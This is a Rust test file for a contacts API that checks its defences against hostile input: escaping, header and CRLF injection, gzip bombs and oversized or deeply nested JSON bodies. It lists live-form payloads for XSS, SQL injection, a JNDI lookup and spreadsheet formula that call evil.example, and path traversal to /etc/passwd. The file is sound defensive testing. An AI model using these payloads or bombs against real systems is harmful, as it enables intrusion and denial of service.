//! What callers write does not become anything else: no header, no page, no cell of a spreadsheet (see `files`), no
//! line of a log (see `log`), and no work out of proportion.

use std::time::{Duration, Instant};

use flate2::Compression;
use flate2::write::GzEncoder;
use hyper::{Method, StatusCode};
use serde_json::{Value, json};
use std::io::Write as _;

use crate::harness::{Answer, Server};
use crate::wire::Wire;

const UPDATE: &str = "/v3/contacts/update";

/// Texts that mean something elsewhere.
const TEXTS: [&str; 9] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "'; DROP TABLE contact; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} <%= 7*7 %>",
    "\u{202e}gpj.exe",
    "../../../../etc/passwd",
    "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
];

#[tokio::test(flavor = "multi_thread")]
async fn texts_come_back_as_json_as_they_were_sent_and_no_browser_takes_them_for_a_page() {
    let server = Server::start().await;
    let list = server.list().await;
    for (number, text) in TEXTS.iter().enumerate() {
        let contact = json!({ "contact": format!("c{number}"), "name": text, "firstName": text,
                              "variables": [{ "name": "plan", "value": text }] });
        server.upsert(&list, contact).await;
        let get = json!({ "contactListId": list, "userId": format!("c{number}") });
        let answer = server.post("/v3/contact/get", &get).await;
        is_data(&answer);
        let contact = answer.json()["contact"].clone();
        assert_eq!((&contact["name"], &contact["variables"][1]["value"]), (&json!(text), &json!(text)));
    }
    // Refusals quote what was wrong.
    let wrong = json!({ "contactListId": TEXTS[0], "contacts": [{ "contact": "a", "email": TEXTS[1], TEXTS[0]: 1 }] });
    let answer = server.post(UPDATE, &wrong).await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST);
    is_data(&answer);
    is_data(&server.send(Method::GET, "/v3/%3Cscript%3E", &[], "").await);
    server.stop().await;
}

fn is_data(answer: &Answer) {
    assert_eq!(answer.headers["content-type"], "application/json");
    assert_eq!(answer.headers["x-content-type-options"], "nosniff");
    assert!(!answer.headers.contains_key("set-cookie"));
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_is_sent_becomes_a_header() {
    let server = Server::start().await;
    let list = server.list().await;
    let body = json!({ "contactListId": list, "upsert": true, "contacts": [{ "contact": "a" }] }).to_string();
    // Over the wire, since no client library sends such headers.
    for key in ["a\u{0}b", "a\tb", "a\u{7f}b", "\u{e9}", "a\u{1b}[31m"] {
        let mut wire = Wire::open(server.address).unwrap();
        let head = format!(
            "POST {UPDATE} HTTP/1.1\r\nHost: x\r\nAccess-Token: {}\r\nIdempotency-Key: {key}\r\nContent-Length: {}\r\n\r\n",
            server.token,
            body.len()
        );
        wire.write(format!("{head}{body}").as_bytes()).unwrap();
        assert_eq!(wire.read().unwrap().status, 400, "{key:?}");
    }
    // A key that ends its line early is a shorter key and another header, which means nothing.
    let mut wire = Wire::open(server.address).unwrap();
    let split = format!(
        "POST {UPDATE} HTTP/1.1\r\nHost: x\r\nAccess-Token: {}\r\nIdempotency-Key: k\r\nSet-Cookie: a=b\r\nContent-Length: {}\r\n\r\n{body}",
        server.token,
        body.len()
    );
    wire.write(split.as_bytes()).unwrap();
    let reply = wire.read().unwrap();
    assert_eq!((reply.status, reply.header("set-cookie")), (200, None));
    for uri in [
        "http://example.com/\r\nX: y",
        "http://example.com\r\n/",
        "http://exam\nple.com/",
        "http://example.com/\u{0}",
    ] {
        let body = json!({ "contactListId": list, "webHookUri": uri, "contacts": [{ "contact": "a" }] });
        assert_eq!(
            server.refused(UPDATE, &body).await,
            ["Argument webHookUri must be a valid URI"],
            "{uri:?}"
        );
    }
    server.stop().await;
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// A bomb in a bomb is unpacked once, and what is in it is no JSON. Codings that are named together are refused.
#[tokio::test(flavor = "multi_thread")]
async fn a_bomb_in_a_bomb_is_unpacked_once() {
    let server = Server::start().await;
    let inner = gzip(&vec![b' '; 64 << 20]);
    let outer = gzip(&inner);
    let start = Instant::now();
    let answer = server.post_coded(UPDATE, "gzip", outer.clone()).await;
    assert_eq!((answer.status, answer.errors()), (StatusCode::BAD_REQUEST, vec!["Bad Request".to_owned()]));
    for coding in ["gzip, gzip", "gzip,gzip,gzip", "br, gzip"] {
        let answer = server.post_coded(UPDATE, coding, outer.clone()).await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{coding}");
    }
    assert!(start.elapsed() < Duration::from_secs(3), "{:?}", start.elapsed());
    server.stop().await;
}

/// Bodies of a megabyte that are made to cost more than they weigh. Each is answered soon, and with little.
#[tokio::test(flavor = "multi_thread")]
async fn a_body_that_is_made_to_be_dear_is_answered_soon_and_with_little() {
    let server = Server::start().await;
    let list = server.list().await;
    let within = |text: String| format!("{{\"contactListId\":\"{list}\",\"contacts\":[{text}]}}");
    let most = (1 << 20) - 200;
    let repeated = |text: &str| text.repeat(most / text.len());
    let mut number = 0_u32;
    let keys: String = std::iter::from_fn(|| {
        number += 1;
        Some(format!("\"k{number}\":1,"))
    })
    .take(most / 12)
    .collect();
    let bombs = [
        ("arrays in arrays", "[".repeat(most)),
        ("arrays in arrays, closed", format!("{}{}", "[".repeat(most / 2), "]".repeat(most / 2))),
        ("objects in objects", repeated("{\"a\":")),
        ("a value that is deep", within(format!("{{\"contact\":\"a\",\"name\":{}1{}}}", "[".repeat(most / 3), "]".repeat(most / 3)))),
        ("an unknown value that is deep", within(format!("{{\"contact\":1,\"x\":{}1{}}}", "[".repeat(most / 3), "]".repeat(most / 3)))),
        ("many keys at the top", format!("{{{}\"contactListId\":\"{list}\"}}", keys)),
        ("many keys of a contact", within(format!("{{{keys}\"contact\":1}}"))),
        ("one key again and again", within(format!("{{{}\"contact\":1}}", repeated("\"contact\":\"a\",")))),
        ("many contacts", within(format!("{}1", repeated("1,")))),
        ("many variables", within(format!("{{\"contact\":\"a\",\"variables\":[{}1]}}", repeated("1,")))),
        ("a long number", within(format!("{{\"contact\":\"a\",\"contactScore\":{}}}", repeated("9")))),
        ("a large exponent", within("{\"contact\":\"a\",\"contactScore\":1e999999999,\"cac\":{\"value\":1e-999999999,\"currency\":\"EUR\"}}".to_owned())),
        ("a long amount", within(format!("{{\"contact\":\"a\",\"cac\":{{\"value\":\"-0.{}\",\"currency\":\"EUR\"}}}}", repeated("1")))),
        ("a long e-mail address", within(format!("{{\"contact\":\"a\",\"email\":\"{}@example.com\"}}", repeated("a")))),
        ("a long host", within(format!("{{\"contact\":\"a\",\"facebookLink\":\"{}.com\"}}", repeated("a.")))),
        ("a host of letters that are not ASCII", within(format!("{{\"contact\":\"a\",\"email\":\"a@{}.com\"}}", repeated("ü.")))),
        ("escapes", within(format!("{{\"contact\":\"a\",\"name\":\"{}\"}}", repeated("\\u0041")))),
        ("half of a pair", within(format!("{{\"contact\":\"a\",\"name\":\"{}\"}}", repeated("\\ud800")))),
        ("blanks", repeated(" ")),
        ("zeros", repeated("\u{0}")),
    ];
    for (what, body) in bombs {
        assert!(body.len() <= 1 << 20, "{what}: {}", body.len());
        let start = Instant::now();
        let answer = server.post_bytes(UPDATE, body).await;
        let told: Value = answer.json();
        assert_eq!((answer.status, &told["result"]), (StatusCode::BAD_REQUEST, &json!(false)), "{what}");
        assert!(told["errors"].as_array().expect("texts").len() <= 1_000, "{what}");
        assert!(start.elapsed() < Duration::from_secs(3), "{what}: {:?}", start.elapsed());
    }
    server.stop().await;
}
